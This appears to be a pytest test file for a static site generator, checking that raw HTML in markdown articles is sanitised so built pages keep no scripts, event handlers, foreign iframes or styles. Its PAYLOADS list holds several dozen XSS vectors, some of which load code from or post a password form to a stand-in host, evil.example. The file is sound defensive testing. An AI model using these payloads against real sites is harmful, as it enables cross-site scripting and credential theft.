"""Guarantee 1: raw HTML in an article body is cleaned by an allow-list, so the built page
never carries an active script, event handler, foreign iframe or style, however it is
written; the harmless text around it is kept."""

from __future__ import annotations

from pathlib import Path

import pytest

from readsite.config import load_config
from readsite.markdown import render
from readsite.pipeline import build_site
from tests.conftest import MakeSite
from tests.reliability.active_html import active_parts, body_of

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x OnErRoR=alert(1)>",
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)">hover</div>',
    '<svg><script>alert(1)</script></svg>',
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<style>body { display: none }</style>",
    '<p style="position:fixed;top:0">overlay</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<base href="https://evil.example/">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="#" onclick="alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    '<template><script>alert(1)</script></template>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    "<img src=`x` onerror=alert(1)>",
    '<div id="x" class="y" data-x="1" onfocus=alert(1) tabindex=1 autofocus>',
    # Last: html5ever drops what follows an unclosed `<table><mglyph>` in a paragraph.
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rendered_body_has_nothing_active(payload: str) -> None:
    for source in (payload, f"Text before {payload} text after.", f"> {payload}",
                   f"- item {payload}", f"| a |\n|---|\n| {payload} |"):
        assert active_parts(render(source).html) == [], source


def test_built_page_has_nothing_active_and_keeps_the_text(make_site: MakeSite) -> None:
    body = "\n\n".join(f"Paragraph {n} {payload} survives." for n, payload in
                       enumerate(PAYLOADS))
    root = make_site(files={"content/a.md": f"---\ntitle: A\n---\n\n{body}\n"})
    build_site(load_config(root))
    page = (root / "_site" / "articles" / "a" / "index.html").read_text()
    assert active_parts(page, theme_head=True) == []
    shown = body_of(page)
    for n in range(len(PAYLOADS)):
        assert f"Paragraph {n} " in shown
    assert shown.count("survives.") == len(PAYLOADS) - 1  # all but the last one's
    assert "overlay" in shown and "hover" in shown  # the text of cleaned elements is kept


def test_youtube_embed_is_the_one_iframe_kept(make_site: MakeSite) -> None:
    root: Path = make_site(files={"content/a.md": (
        "---\ntitle: A\n---\n\n"
        '<iframe src="https://www.youtube-nocookie.com/embed/abc" onload="x()"></iframe>\n')})
    build_site(load_config(root))
    page = (root / "_site" / "articles" / "a" / "index.html").read_text()
    assert 'src="https://www.youtube-nocookie.com/embed/abc"' in page
    assert active_parts(page, theme_head=True) == []


@pytest.mark.parametrize("tag", ["style", "svg", "textarea", "title", "script", "iframe",
                                 "noscript", "template", "select", "xmp", "plaintext"])
def test_an_unclosed_tag_in_prose_does_not_hide_the_rest(tag: str) -> None:
    html = render(f"Intro <{tag}> is a tag name.\n\nSecond paragraph.\n").html
    assert f"&lt;{tag}&gt; is a tag name." in html and '<p id="s-p1">Second paragraph.</p>' in html
    assert active_parts(html) == []
